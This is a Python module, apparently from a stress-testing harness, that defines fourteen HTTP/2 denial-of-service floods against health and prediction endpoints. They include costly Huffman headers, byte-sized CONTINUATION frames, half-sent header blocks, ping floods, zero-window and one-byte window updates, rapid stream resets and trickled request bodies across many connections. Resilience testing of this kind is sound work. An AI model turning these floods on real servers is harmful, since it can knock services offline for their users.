"""Little to send and much to do, much to keep, or much at one time."""

import struct

from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
from hyperframe import frame as frames

from .connection import HEALTH_PATH, PREDICT_PATH, data, message, ping
from .floods import ZERO_WINDOW, broken_images, string

CROWD = 64  # connections of one attacker at one time
_RARE = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"!#&*<>XZ" * 1400)


def _rare_text(number):
    """A header of 11 KB in Huffman's code, another one each time."""
    return b"\x00\x01a" + string(_RARE[:-1] + bytes([number % 8 << 5 | 31]), coded=True)


def huffman_headers(open_connection):
    """Header blocks in Huffman's code, which is dear to read."""
    connection = open_connection()
    number = 0
    while True:
        number += 1
        connection.send(connection.headers(HEALTH_PATH, more=_rare_text(number), end_stream=True)[1])
        connection.drain()
        yield 1


def crowds_of_headers(open_connection):
    """The same from many connections at one time, each of which has cost nothing before."""
    while True:
        crowd = [open_connection() for _ in range(CROWD)]
        for number, connection in enumerate(crowd):
            connection.send(connection.headers(HEALTH_PATH, more=_rare_text(number), end_stream=True)[1] * 2)
        yield CROWD
        for connection in crowd:
            connection.close()


def crowds_of_pings(open_connection):
    """Many connections at one time that send without reading."""
    crowd = [open_connection() for _ in range(CROWD)]
    block = b"".join(ping(number) for number in range(1000))
    while True:
        for connection in crowd:
            connection.send_some(block)
            yield 1000


def byte_continuations(open_connection):
    """Header blocks whose bytes come in a CONTINUATION frame each."""
    connection = open_connection()
    while True:
        stream, head = connection.headers(HEALTH_PATH, more=b"\x00\x01a\x7f\x00" + b"v" * 127, end_stream=True)
        block = head[9:]
        pieces = [frames.HeadersFrame(stream, b"", flags=["END_STREAM"]).serialize()]
        pieces += [frames.ContinuationFrame(stream, block[at : at + 1]).serialize() for at in range(len(block))]
        pieces.append(frames.ContinuationFrame(stream, b"", flags=["END_HEADERS"]).serialize())
        connection.send(b"".join(pieces))
        connection.drain()
        yield len(pieces)


def remembered_blocks(open_connection):
    """Header blocks of 2 KB and of 15 KB, no two alike, on many connections."""
    crowd = [open_connection() for _ in range(CROWD)]
    for size in (1_500, 15_000):
        for number in range(80):
            more = b"\x00\x01a" + string(b"%08d" % number + b"v" * size)
            for connection in crowd:
                connection.send(connection.headers(HEALTH_PATH, more=more, end_stream=True)[1])
                connection.drain()
                yield 1
    while True:
        yield 0


def short_connections(open_connection):
    """Connections, one after the other, that are closed as soon as they stand."""
    while True:
        open_connection().close()
        yield 1


def half_prefaces(open_connection):
    """Connections that send half of what they begin with."""
    while True:
        open_connection(preface=False).send(b"PRI * HTTP/2")
        yield 1


def half_frames(open_connection):
    """Connections with a frame of a header block that lacks its last byte."""
    while True:
        connection = open_connection()
        connection.send(connection.headers(PREDICT_PATH, more=b"\x00\x01a" + string(b"v" * 16_000))[1][:-1])
        yield 1


def half_blocks(open_connection):
    """Connections with a header block of 120 KB that lacks its end."""
    while True:
        connection = open_connection()
        stream, head = connection.headers(PREDICT_PATH, end_headers=False)
        connection.send(head + frames.ContinuationFrame(stream, bytes(15_000)).serialize() * 8)
        yield 1


def untaken_answers(open_connection):
    """Calls without end of a caller that takes no byte from its connection."""
    connection = open_connection()
    while True:
        connection.send(connection.questions(100))
        yield 100


def byte_windows(open_connection):
    """Replies of 500 KB, for which the caller gives room byte by byte."""
    connection = open_connection(settings=ZERO_WINDOW)
    body = message(broken_images(64))
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head)
    connection.wait_for_window(stream, len(body))
    connection.send(data(stream, body, end_stream=True))
    connection.wait_for_headers(stream)
    block = frames.WindowUpdateFrame(stream, window_increment=1).serialize() * 500
    yield from connection.repeat(block, 500)


def resets_during_replies(open_connection):
    """Calls that are taken back when their replies have begun to come."""
    connection = open_connection(settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 100})
    body = message(broken_images(64))
    while True:
        stream, head = connection.headers(PREDICT_PATH)
        connection.send(head)
        connection.wait_for_window(stream, len(body))
        connection.send(data(stream, body, end_stream=True))
        connection.wait_for_headers(stream)
        connection.send(frames.RstStreamFrame(stream, error_code=8).serialize())
        yield 1


def trickling_calls(open_connection):
    """Calls without end on many connections, whose bodies come byte by byte."""
    crowd = [(connection, []) for connection in (open_connection() for _ in range(CROWD // 4))]
    while True:
        for connection, streams in crowd:
            if len(streams) < 100:
                stream, head = connection.headers(PREDICT_PATH)
                connection.send(head + data(stream, struct.pack(">BI", 0, 60_000_000)))
                streams.append(stream)
            connection.send(b"".join(data(stream, b"x") for stream in streams[-10:]))
            connection.drain()
            yield 10


def waiting_bodies(open_connection):
    """As many calls as there may be, each with as much of a large body as it may send at first."""
    crowd = [open_connection() for _ in range(CROWD // 4)]
    pieces = [struct.pack(">BI", 0, 1_000_000) + bytes(16_379), *[bytes(16_384)] * 2, bytes(16_383)]
    for _ in range(250):
        for connection in crowd:
            for path in (PREDICT_PATH, HEALTH_PATH):
                stream, head = connection.headers(path)
                connection.send(head + b"".join(data(stream, piece) for piece in pieces))
            connection.drain()
            yield 10
    while True:
        yield 0


UNEVEN_FLOODS = [
    huffman_headers,
    crowds_of_headers,
    crowds_of_pings,
    byte_continuations,
    remembered_blocks,
    short_connections,
    half_prefaces,
    half_frames,
    half_blocks,
    untaken_answers,
    byte_windows,
    resets_during_replies,
    trickling_calls,
    waiting_bodies,
]
